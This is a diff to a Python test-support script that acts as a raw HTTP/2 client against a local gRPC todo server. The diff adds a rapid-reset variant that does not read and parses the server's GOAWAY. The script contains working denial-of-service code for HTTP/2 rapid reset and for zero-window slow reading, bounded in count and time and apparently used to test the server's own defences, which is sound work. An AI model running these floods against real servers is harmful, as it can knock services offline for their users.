@@ -1,15 +1,19 @@
 """A raw HTTP/2 peer (the h2 package) doing what no gRPC library lets a client do, against a
 server on this machine, bounded in count and time:
 
-- rapid reset: HEADERS (and the request) then RST_STREAM, in a loop on one connection. Run as a
-  process of its own (so that it does not share the test's interpreter), it prints what it saw as
-  one JSON line: ``python tests/h2_peer.py PORT SECONDS MAX_RESETS``;
+- rapid reset: HEADERS (and the request) then RST_STREAM, in a loop on one connection, reading
+  what the server sends (``attack``: PINGs answered) or nothing after the handshake
+  (``attack_without_reading``). Run as a process of its own (so that it does not share the
+  test's interpreter), it prints what it saw as one JSON line:
+  ``python tests/support/h2_peer.py PORT SECONDS MAX_RESETS [--without-reading]``;
 - never reading: one connection advertising a zero flow-control window opens many WatchTodos
   streams, so whatever the server sends them stays with the server (``never_reading_watches``)."""
 
 from __future__ import annotations
 
+import contextlib
 import json
+import select
 import socket
 import sys
 import time
@@ -23,6 +27,8 @@ import h2.settings
 from sessiontodo.v1 import todo_service_pb2 as pb
 
 BATCH = 50
+
+GOAWAY = 0x7  # the frame type (RFC 9113, 6.8)
 
 
 def _framed(message: bytes) -> bytes:
@@ -41,12 +47,16 @@ def _headers(port: int, method: str) -> list[tuple[str, str]]:
     ]
 
 
+def _new_connection() -> h2.connection.H2Connection:
+    return h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+
+
 def never_reading_watches(port: int, session_id: str, streams: int, hold: float) -> dict[str, int]:
     """Open ``streams`` WatchTodos on one connection whose streams' windows are zero, keep it open
     for ``hold`` seconds without granting any window, then close it. The streams' statuses by
     grpc-status ("open": none yet, the server holding their messages)."""
     settings = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
-    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+    connection = _new_connection()
     connection.local_settings = h2.settings.Settings(client=True, initial_values=settings)
     request = _framed(pb.WatchTodosRequest(session_id=session_id).SerializeToString())
     statuses: dict[int, str] = {}
@@ -78,9 +88,21 @@ def never_reading_watches(port: int, session_id: str, streams: int, hold: float)
     return counts
 
 
+def _queue_resets(
+    connection: h2.connection.H2Connection, headers: list[tuple[str, str]], request: bytes | None
+) -> None:
+    """Queue ``BATCH`` streams, each opened (HEADERS, then the request if given) and reset."""
+    for _ in range(BATCH):
+        stream_id = connection.get_next_available_stream_id()
+        connection.send_headers(stream_id, headers)
+        if request is not None:
+            connection.send_data(stream_id, request)
+        connection.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
+
+
 def attack(port: int, seconds: float, max_resets: int) -> dict[str, object]:
     """Reset streams until the time or the count runs out, or the server closes the connection."""
-    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
+    connection = _new_connection()
     headers = _headers(port, "GetTodos")
     request = _framed(pb.GetTodosRequest(session_id="s").SerializeToString())
     resets, pings, goaway, closed = 0, 0, None, False
@@ -89,12 +111,8 @@ def attack(port: int, seconds: float, max_resets: int) -> dict[str, object]:
         connection.initiate_connection()
         sock.sendall(connection.data_to_send())
         while time.monotonic() < deadline and resets < max_resets and not closed:
-            for _ in range(BATCH):
-                stream_id = connection.get_next_available_stream_id()
-                connection.send_headers(stream_id, headers)
-                connection.send_data(stream_id, request)
-                connection.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
-                resets += 1
+            _queue_resets(connection, headers, request)
+            resets += BATCH
             try:
                 sock.sendall(connection.data_to_send())
                 sock.setblocking(False)
@@ -116,5 +134,60 @@ def attack(port: int, seconds: float, max_resets: int) -> dict[str, object]:
     return {"resets": resets, "pings": pings, "goaway": goaway, "closed": closed}
 
 
+def _read_exactly(sock: socket.socket, size: int) -> bytes:
+    data = b""
+    while len(data) < size:
+        chunk = sock.recv(size - len(data))
+        if not chunk:
+            raise ConnectionError("closed")
+        data += chunk
+    return data
+
+
+def _read_frame(sock: socket.socket) -> tuple[int, bytes]:
+    """One whole frame (its type, its bytes), so that reading can stop and resume on a frame boundary."""
+    header = _read_exactly(sock, 9)
+    return header[3], header + _read_exactly(sock, int.from_bytes(header[:3], "big"))
+
+
+def attack_without_reading(port: int, seconds: float, max_resets: int) -> dict[str, object]:
+    """Take the server's SETTINGS and acknowledge them, then reset streams (HEADERS then RST_STREAM)
+    without reading anything more, so never acknowledging a PING, until the server closes the
+    connection or the time or the count runs out. Then read what the server sent: the GOAWAY's
+    error code and debug data if there is one."""
+    connection = _new_connection()
+    headers = _headers(port, "GetTodos")
+    resets, closed, pending = 0, False, b""
+    goaway: str | None = None
+    goaway_debug: str | None = None
+    with socket.create_connection(("127.0.0.1", port), timeout=2) as sock:
+        connection.initiate_connection()
+        sock.sendall(connection.data_to_send())
+        settings_received = False
+        while not settings_received:
+            events = connection.receive_data(_read_frame(sock)[1])
+            settings_received = any(isinstance(event, h2.events.RemoteSettingsChanged) for event in events)
+        sock.sendall(connection.data_to_send())  # the SETTINGS acknowledgement
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline and (pending or resets < max_resets) and not closed:
+            if not pending:
+                _queue_resets(connection, headers, None)
+                resets += BATCH
+                pending = connection.data_to_send()
+            try:
+                if select.select([], [sock], [], 0.1)[1]:
+                    pending = pending[sock.send(pending) :]
+            except OSError:
+                closed = True  # the server closed the connection
+        with contextlib.suppress(OSError):  # read until the GOAWAY, the end, a reset or 2 s of silence
+            while goaway is None:
+                frame_type, frame = _read_frame(sock)
+                if frame_type == GOAWAY:  # last stream id (4 bytes), error code (4), debug data
+                    goaway = h2.errors.ErrorCodes(int.from_bytes(frame[13:17], "big")).name
+                    goaway_debug = frame[17:].decode(errors="replace")
+    return {"resets": resets, "closed": closed, "goaway": goaway, "goaway_debug": goaway_debug}
+
+
 if __name__ == "__main__":
-    print(json.dumps(attack(int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]))))
+    run = attack_without_reading if "--without-reading" in sys.argv[4:] else attack
+    print(json.dumps(run(int(sys.argv[1]), float(sys.argv[2]), int(sys.argv[3]))))
